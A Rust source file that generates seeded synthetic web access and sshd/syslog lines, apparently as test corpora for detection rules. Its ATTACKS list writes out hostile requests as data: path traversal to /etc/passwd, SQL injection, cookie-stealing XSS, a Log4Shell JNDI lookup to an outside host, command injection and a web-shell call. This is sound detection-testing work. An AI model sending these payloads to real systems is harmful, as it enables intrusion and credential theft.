//! Log lines of any number from a seed: access logs with a share of attacks, and sshd under RFC 3164.
//! Values repeat as in real traffic: few agents and pages are frequent, addresses and queries vary.

use std::fmt::Write;

use event::Timestamp;

/// A small generator of pseudo-random numbers (xorshift64*), enough for corpora.
#[derive(Clone, Debug)]
pub struct Random(u64);

impl Random {
    pub fn new(seed: u64) -> Self {
        Random(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }

    pub fn number(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    /// A number below `bound`.
    pub fn below(&mut self, bound: u64) -> u64 {
        self.number() % bound
    }

    /// An element of a list with a long tail: the n-th comes about as often as 1/n says.
    pub fn tailed<'a, T>(&mut self, list: &'a [T]) -> &'a T {
        let share = self.below(1 << 20) as f64 / (1 << 20) as f64;
        let place = (list.len() as f64 + 1.0).powf(share) - 1.0;
        &list[(place as usize).min(list.len() - 1)]
    }

    /// An element; the first ones come much more often than the last ones.
    pub fn skewed<'a, T>(&mut self, list: &'a [T]) -> &'a T {
        let share = self.below(1 << 20) as f64 / (1 << 20) as f64;
        &list[((share * share * list.len() as f64) as usize).min(list.len() - 1)]
    }
}

const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const SECTIONS: [&str; 12] = [
    "products",
    "articles",
    "blog",
    "account",
    "cart",
    "static/css",
    "static/js",
    "images",
    "api/v2/items",
    "api/v2/users",
    "help",
    "downloads",
];
const WORDS: [&str; 24] = [
    "garden", "winter", "blue", "coffee", "travel", "running", "shoes", "lamp", "wooden", "table", "review", "summer",
    "kitchen", "paper", "guide", "music", "river", "mountain", "camera", "bicycle", "pocket", "letter", "union",
    "select",
];
const ENGINES: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/",
    "okhttp/",
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.org/info) rev/",
];
/// Requests that own rules look for, in several encodings.
const ATTACKS: [(&str, &str); 12] = [
    ("/download?file=../../../../etc/passwd", "curl/8.5.0"),
    ("/static/..%2f..%2f..%2f..%2fetc/shadow", "curl/8.5.0"),
    ("/item?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
    ("/item?id=1%27%20OR%20%271%27=%271", "Mozilla/5.0"),
    ("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "Mozilla/5.0"),
    ("/?x=${jndi:ldap://198.51.100.66:1389/a}", "Mozilla/5.0"),
    ("/.env", "python-requests/2.31"),
    ("/.git/config", "Mozilla/5.0 zgrab/0.x"),
    ("/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd", "Mozilla/5.0"),
    ("/uploads/shell.php?cmd=id", "Mozilla/5.0"),
    ("/wp-login.php", "Mozilla/5.0 (Nikto/2.5.0)"),
    ("/phpmyadmin/index.php", "Mozilla/5.0"),
];

/// Different user agents, and different pages.
const AGENTS: usize = 14_000;
const PAGES: usize = 14_000;
/// Answers per 100 lines: 12 are redirections and errors of the client, one is an error of the server.
const ANSWERS: [(u64, u16); 8] =
    [(85, 200), (87, 206), (91, 304), (94, 301), (95, 302), (98, 404), (99, 403), (100, 500)];

/// Makes access lines in combined format, about 220 bytes each. Agents and pages have long tails: the most frequent one
/// has some hundredths of all lines, and most come a few times.
#[derive(Debug)]
pub struct Access {
    random: Random,
    agents: Vec<String>,
    pages: Vec<String>,
    second: i64,
    /// Attacks per 10,000 lines.
    attacks_per_10k: u64,
}

impl Access {
    pub fn new(seed: u64, attacks_per_10k: u64) -> Self {
        let mut random = Random::new(seed);
        let agents = (0..AGENTS)
            .map(|at| {
                format!("{}{}.{}.{}", ENGINES[at % ENGINES.len()], 90 + at % 40, random.below(9), random.below(6000))
            })
            .collect();
        let pages = (0..PAGES)
            .map(|at| {
                let section = SECTIONS[random.below(12) as usize];
                let word = |random: &mut Random| WORDS[random.below(22) as usize];
                format!("/{section}/{}-{}-{}-{at}.html", word(&mut random), word(&mut random), word(&mut random))
            })
            .collect();
        Access { random, agents, pages, second: 1_790_000_000, attacks_per_10k }
    }

    pub fn line(&mut self, out: &mut String) -> std::fmt::Result {
        if self.random.below(40) == 0 {
            self.second += 1;
        }
        let attack = self.random.below(10_000) < self.attacks_per_10k;
        let address =
            if attack { self.random.below(200) + (198 << 24) } else { self.random.below(30_000) * 977 + (81 << 24) };
        let octets = (address as u32).to_be_bytes();
        let stamp = clf(self.second);
        let answer = self.random.below(100);
        let status = ANSWERS.iter().find(|(below, _)| answer < *below).map_or(200, |(_, status)| *status);
        let bytes = self.random.below(60_000);
        let [a, b, c, d] = octets;
        write!(out, "{a}.{b}.{c}.{d} - - [{stamp}] \"")?;
        if attack {
            let (target, agent) = ATTACKS[self.random.below(ATTACKS.len() as u64) as usize];
            writeln!(out, "GET {target} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\"")?;
            return Ok(());
        }
        let method = *self.random.skewed(&["GET", "GET", "GET", "GET", "GET", "POST", "HEAD", "PUT"]);
        let page = self.random.tailed(&self.pages).as_str();
        write!(out, "{method} {page}")?;
        if self.random.below(3) == 0 {
            let (first, second) = (self.random.below(24) as usize, self.random.below(24) as usize);
            write!(out, "?q={}+{}&page={}", WORDS[first], WORDS[second], self.random.below(90))?;
        }
        let referrer = self.random.below(60) as usize;
        let agent = self.random.tailed(&self.agents).as_str();
        writeln!(
            out,
            " HTTP/1.1\" {status} {bytes} \"https://www.example.org/{}/{}\" \"{agent}\"",
            SECTIONS[referrer % 12],
            WORDS[referrer % 24]
        )
    }
}

/// Makes sshd lines with PRI, BSD stamp and host, about 120 bytes each.
#[derive(Debug)]
pub struct Sshd {
    random: Random,
    second: i64,
    /// Failed logins per 10,000 lines; `None`: five lines of eight, as of a host that is under attack.
    failures_per_10k: Option<u64>,
}

impl Sshd {
    /// A host that is being attacked: five lines in eight are of failed logins.
    pub fn new(seed: u64) -> Self {
        Sshd { random: Random::new(seed), second: 1_790_000_000, failures_per_10k: None }
    }

    /// With so many failed logins among sessions that begin and end.
    pub fn with_failures(seed: u64, failures_per_10k: u64) -> Self {
        Sshd { failures_per_10k: Some(failures_per_10k), ..Sshd::new(seed) }
    }

    /// Which kind of line comes next: 0 to 4 are failed logins, from 8 on it is a session that ends.
    fn kind(&mut self) -> u64 {
        let Some(failures) = self.failures_per_10k else { return self.random.below(8) };
        if self.random.below(10_000) < failures {
            return self.random.below(5);
        }
        *[5, 7, 8].get(self.random.below(3) as usize).unwrap_or(&5)
    }

    pub fn line(&mut self, out: &mut String) -> std::fmt::Result {
        if self.random.below(20) == 0 {
            self.second += 1;
        }
        let [a, b, c, d] = ((self.random.below(50_000) * 7919 + (91 << 24)) as u32).to_be_bytes();
        let (pid, port) = (1000 + self.random.below(60_000), 1024 + self.random.below(60_000));
        let host = self.random.below(40);
        let mut user = *self
            .random
            .skewed(&["root", "admin", "deploy", "alice", "bob", "oracle", "postgres", "git", "test", "www"]);
        let kind = self.kind();
        if self.failures_per_10k.is_some() && kind >= 5 {
            // Sessions are those of people: that root logs in is a finding of its own.
            user = *self.random.skewed(&["deploy", "alice", "bob", "carol", "dave", "erin", "frank", "grace"]);
        }
        let stamp = bsd(self.second);
        write!(out, "<38>{stamp} web{host:02} sshd[{pid}]: ")?;
        match kind {
            0..=2 => writeln!(out, "Failed password for {user} from {a}.{b}.{c}.{d} port {port} ssh2"),
            3 => writeln!(out, "Failed password for invalid user {user}{port} from {a}.{b}.{c}.{d} port {port} ssh2"),
            4 => writeln!(out, "Invalid user {user}{port} from {a}.{b}.{c}.{d} port {port}"),
            5 => writeln!(
                out,
                "Accepted publickey for {user} from {a}.{b}.{c}.{d} port {port} ssh2: ED25519 SHA256:4Tq{pid}xyz"
            ),
            6 => writeln!(out, "Connection closed by authenticating user {user} {a}.{b}.{c}.{d} port {port} [preauth]"),
            7 => writeln!(out, "Disconnected from user {user} {a}.{b}.{c}.{d} port {port}"),
            _ => writeln!(out, "Received disconnect from {a}.{b}.{c}.{d} port {port}:11: disconnected by user"),
        }
    }
}

/// Makes the lines of a flood: each is a failed login of a new account from a new address, a thousand in a second, about
/// 115 bytes each.
#[derive(Debug)]
pub struct Flood {
    number: u64,
    seed: u64,
}

impl Flood {
    pub fn new(seed: u64) -> Self {
        Flood { number: 0, seed }
    }

    pub fn line(&mut self, out: &mut String) -> std::fmt::Result {
        let number = self.number;
        self.number += 1;
        // An odd factor modulo a power of two: no address comes twice.
        let address = (number.wrapping_mul(2_654_435_761).wrapping_add(self.seed) as u32 & 0x1FFF_FFFF) | 0x4000_0000;
        let [a, b, c, d] = address.to_be_bytes();
        let stamp = bsd(1_790_000_000 + (number / 1000) as i64);
        let (host, pid, port) = (number % 40, 1000 + number % 60_000, 1024 + number % 60_000);
        writeln!(
            out,
            "<38>{stamp} web{host:02} sshd[{pid}]: Failed password for invalid user acct{number} from {a}.{b}.{c}.{d} port {port} ssh2"
        )
    }
}

/// Makes what a fleet of hosts sends by syslog, with PRI and an RFC 3339 stamp, about 125 bytes each: sessions, cron,
/// services; failed logins among them as attacks are, from a few addresses.
#[derive(Debug)]
pub struct Fleet {
    random: Random,
    /// Failed logins per 10,000 messages.
    attacks_per_10k: u64,
}

impl Fleet {
    pub fn new(seed: u64, attacks_per_10k: u64) -> Self {
        Fleet { random: Random::new(seed), attacks_per_10k }
    }

    /// One message, stamped with the second that is given.
    pub fn line(&mut self, second: i64, out: &mut String) -> std::fmt::Result {
        let stamp = Timestamp::from_unix_seconds(second);
        let (host, pid) = (self.random.below(200), 500 + self.random.below(60_000));
        let user = *self.random.skewed(&["deploy", "alice", "bob", "carol", "git", "backup", "www-data", "root"]);
        let (c, port) = (self.random.below(250), 1024 + self.random.below(60_000));
        if self.random.below(10_000) < self.attacks_per_10k {
            let attacker = self.random.below(40);
            return writeln!(
                out,
                "<38>1 {stamp} web{host:03} sshd {pid} - - Failed password for {user} from 203.0.113.{attacker} port {port} ssh2"
            );
        }
        match self.random.below(6) {
            0 => writeln!(
                out,
                "<38>1 {stamp} web{host:03} sshd {pid} - - Disconnected from user {user} 10.20.{c}.7 port {port}"
            ),
            1 => writeln!(
                out,
                "<78>1 {stamp} web{host:03} CRON {pid} - - ({user}) CMD (/usr/lib/sysstat/sa1 1 1 --slot {c})"
            ),
            2 => writeln!(
                out,
                "<30>1 {stamp} web{host:03} systemd 1 - - Started session-{pid}.scope - Session {pid} of User {user}."
            ),
            3 => writeln!(
                out,
                "<86>1 {stamp} web{host:03} systemd-logind {c} - - New session {pid} of user {user}, seat0 unchanged."
            ),
            4 => writeln!(
                out,
                "<22>1 {stamp} mail{host:03} postfix/smtpd {pid} - - disconnect from relay{c}.example[10.20.{c}.9] ehlo=1 quit=1"
            ),
            _ => writeln!(
                out,
                "<6>1 {stamp} web{host:03} kernel - - - nf_conntrack: table at {c} percent, {port} entries in use"
            ),
        }
    }
}

/// `YYYY-MM-DDThh:mm:ssZ`, cut into the parts that other stamps are made of.
fn parts(second: i64) -> (String, usize) {
    let text = Timestamp::from_unix_seconds(second).to_string();
    let month = text[5..7].parse::<usize>().unwrap_or(1);
    (text, month - 1)
}

fn clf(second: i64) -> String {
    let (text, month) = parts(second);
    format!("{}/{}/{}:{} +0000", &text[8..10], MONTHS[month], &text[..4], &text[11..19])
}

fn bsd(second: i64) -> String {
    let (text, month) = parts(second);
    format!("{} {:>2} {}", MONTHS[month], text[8..10].trim_start_matches('0'), &text[11..19])
}
